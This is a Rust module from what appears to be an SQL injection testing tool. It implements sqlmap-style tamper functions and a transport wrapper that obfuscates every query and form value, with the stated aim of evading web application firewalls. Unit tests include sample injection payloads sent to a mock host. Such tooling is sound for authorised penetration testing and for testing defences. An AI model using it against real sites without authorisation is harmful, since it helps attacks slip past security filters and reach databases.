//! Tamper scripts for WAF/IPS bypass
//!
//! A [`TamperChain`] rewrites payload values in the order the caller gave;
//! [`TamperTransport`] applies it to every outgoing query-string and form
//! value before handing the request to the wrapped transport.

use crate::http::request::HttpRequest;
use crate::http::response::HttpResponse;
use crate::http::{Transport, TransportStats};
use anyhow::{bail, Result};
use async_trait::async_trait;
use once_cell::sync::Lazy;
use rand::Rng;
use regex::Regex;
use std::sync::Arc;
use url::form_urlencoded;

/// Tamper function type
pub type TamperFn = fn(&str) -> String;

const TAMPERS: &[(&str, TamperFn, &str)] = &[
    ("space2comment", space2comment, "Replace spaces with SQL comments /**/"),
    ("space2plus", space2plus, "Replace spaces with plus signs"),
    ("randomcase", randomcase, "Random upper/lower case for SQL keywords"),
    ("charencode", charencode, "Percent-encode every non-alphanumeric character"),
    ("between", between, "Replace > with NOT BETWEEN 0 AND"),
    ("equaltolike", equaltolike, "Replace = with LIKE"),
    ("uppercase", uppercase, "Convert payload to uppercase"),
];

/// Tampers whose output is already URL-safe and must not be re-encoded
const RAW_OUTPUT: &[&str] = &["charencode", "space2plus"];

/// List available tamper scripts
pub fn list_tampers() -> Vec<(&'static str, &'static str)> {
    TAMPERS.iter().map(|(n, _, d)| (*n, *d)).collect()
}

/// Replace spaces with SQL comments
pub fn space2comment(payload: &str) -> String {
    payload.replace(' ', "/**/")
}

/// Replace spaces with plus signs
pub fn space2plus(payload: &str) -> String {
    payload.replace(' ', "+")
}

/// `a>b` becomes `a NOT BETWEEN 0 AND b`
pub fn between(payload: &str) -> String {
    payload.replace('>', " NOT BETWEEN 0 AND ")
}

static KEYWORDS: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"(?i)\b(SELECT|UNION|ALL|FROM|WHERE|AND|OR|NOT|ORDER|BY|NULL|CASE|WHEN|THEN|ELSE|END|IF|SLEEP|CONCAT|SUBSTRING|ASCII|LENGTH|CAST|CONVERT|AS|BETWEEN|LIKE)\b",
    )
    .unwrap()
});

/// Random case for SQL keywords only
pub fn randomcase(payload: &str) -> String {
    let mut rng = rand::thread_rng();
    KEYWORDS
        .replace_all(payload, |caps: &regex::Captures| {
            caps[0]
                .chars()
                .map(|c| {
                    if rng.gen_bool(0.5) {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect::<String>()
        })
        .into_owned()
}

/// Percent-encode every non-alphanumeric byte
pub fn charencode(payload: &str) -> String {
    payload
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{:02X}", b)
            }
        })
        .collect()
}

/// Convert to uppercase
pub fn uppercase(payload: &str) -> String {
    payload.to_uppercase()
}

/// Replace = with LIKE
pub fn equaltolike(payload: &str) -> String {
    payload.replace('=', " LIKE ")
}

/// Ordered list of tamper functions
#[derive(Clone, Default)]
pub struct TamperChain {
    steps: Vec<(&'static str, TamperFn)>,
}

impl TamperChain {
    /// Parse a comma-separated list, keeping the caller's order
    pub fn parse(spec: &str) -> Result<Self> {
        let mut steps = Vec::new();
        for name in spec.split(',').map(str::trim).filter(|n| !n.is_empty()) {
            let entry = TAMPERS
                .iter()
                .find(|(n, _, _)| n.eq_ignore_ascii_case(name))
                .map(|(n, f, _)| (*n, *f));
            match entry {
                Some(step) => steps.push(step),
                None => bail!("unknown tamper script: {}", name),
            }
        }
        Ok(Self { steps })
    }

    pub fn apply(&self, payload: &str) -> String {
        self.steps
            .iter()
            .fold(payload.to_string(), |acc, (_, f)| f(&acc))
    }

    pub fn is_empty(&self) -> bool {
        self.steps.is_empty()
    }

    pub fn names(&self) -> Vec<&'static str> {
        self.steps.iter().map(|(n, _)| *n).collect()
    }

    /// Output must be written into the request without further encoding
    pub fn writes_raw(&self) -> bool {
        self.steps.iter().any(|(n, _)| RAW_OUTPUT.contains(n))
    }
}

impl std::fmt::Debug for TamperChain {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_list().entries(self.names()).finish()
    }
}

/// Escape only what would split a raw pair
fn escape_raw(value: &str) -> String {
    value
        .replace('&', "%26")
        .replace('#', "%23")
        .replace(' ', "%20")
}

/// Transport adapter that tampers every query and form value
pub struct TamperTransport {
    inner: Arc<dyn Transport>,
    chain: TamperChain,
}

impl TamperTransport {
    pub fn new(inner: Arc<dyn Transport>, chain: TamperChain) -> Self {
        Self { inner, chain }
    }

    fn rewrite(&self, pairs: Vec<(String, String)>) -> String {
        if self.chain.writes_raw() {
            pairs
                .into_iter()
                .map(|(k, v)| {
                    let key: String = form_urlencoded::byte_serialize(k.as_bytes()).collect();
                    format!("{}={}", key, escape_raw(&self.chain.apply(&v)))
                })
                .collect::<Vec<_>>()
                .join("&")
        } else {
            let mut serializer = form_urlencoded::Serializer::new(String::new());
            for (k, v) in pairs {
                serializer.append_pair(&k, &self.chain.apply(&v));
            }
            serializer.finish()
        }
    }

    fn tamper(&self, mut req: HttpRequest) -> HttpRequest {
        if req.url.query().is_some() {
            let pairs: Vec<(String, String)> = req.url.query_pairs().into_owned().collect();
            let query = self.rewrite(pairs);
            req.url.set_query(Some(&query));
        }

        let is_form = req
            .header("content-type")
            .map(|ct| ct.contains("application/x-www-form-urlencoded"))
            .unwrap_or(false);
        if is_form {
            if let Some(body) = req.body.take() {
                let pairs: Vec<(String, String)> =
                    form_urlencoded::parse(&body).into_owned().collect();
                req.set_body(self.rewrite(pairs));
            }
        }

        req
    }
}

#[async_trait]
impl Transport for TamperTransport {
    async fn execute(&self, req: HttpRequest) -> Result<HttpResponse> {
        self.inner.execute(self.tamper(req)).await
    }

    fn set_proxy(&self, proxy: &str) -> Result<()> {
        self.inner.set_proxy(proxy)
    }

    fn set_rate_limit(&self, requests_per_second: u32) {
        self.inner.set_rate_limit(requests_per_second)
    }

    fn stats(&self) -> TransportStats {
        self.inner.stats()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::mock::{page, MockTransport};
    use url::Url;

    #[test]
    fn test_individual_tampers() {
        assert_eq!(space2comment("1 AND 1=1"), "1/**/AND/**/1=1");
        assert_eq!(between("LENGTH((q))>5"), "LENGTH((q)) NOT BETWEEN 0 AND 5");
        assert_eq!(charencode("a b'"), "a%20b%27");
        assert_eq!(equaltolike("1=1"), "1 LIKE 1");
    }

    #[test]
    fn test_randomcase_only_touches_keywords() {
        let out = randomcase("7 AND username=1");
        assert!(out.ends_with(" username=1"));
        assert_eq!(out.to_uppercase(), "7 AND USERNAME=1");
    }

    #[test]
    fn test_chain_order_matters() {
        let a = TamperChain::parse("space2comment,charencode").unwrap();
        let b = TamperChain::parse("charencode,space2comment").unwrap();
        assert_eq!(a.apply("1 AND"), "1%2F%2A%2A%2FAND");
        assert_eq!(b.apply("1 AND"), "1%20AND");
        assert_eq!(a.names(), vec!["space2comment", "charencode"]);
    }

    #[test]
    fn test_unknown_tamper_is_error() {
        assert!(TamperChain::parse("space2comment,nope").is_err());
        assert!(TamperChain::parse("").unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_transport_rewrites_query_values() {
        let inner = Arc::new(MockTransport::new(|_| page("ok")));
        let transport = TamperTransport::new(inner.clone(), TamperChain::parse("space2comment").unwrap());

        let mut url = Url::parse("http://shop.local/item").unwrap();
        url.query_pairs_mut().append_pair("id", "7 AND 1=1-- -");
        transport.execute(HttpRequest::get(url)).await.unwrap();

        assert_eq!(inner.sent_values("id"), vec!["7/**/AND/**/1=1--/**/-"]);
        assert_eq!(transport.stats().total_requests, 1);
    }

    #[tokio::test]
    async fn test_encoding_chain_is_written_raw() {
        let inner = Arc::new(MockTransport::new(|_| page("ok")));
        let transport = TamperTransport::new(inner.clone(), TamperChain::parse("charencode").unwrap());

        let mut url = Url::parse("http://shop.local/item").unwrap();
        url.query_pairs_mut().append_pair("id", "7'");
        transport.execute(HttpRequest::get(url)).await.unwrap();

        // Decoding once yields the original value, not a double-encoded one
        assert_eq!(inner.sent_values("id"), vec!["7'"]);
    }
}
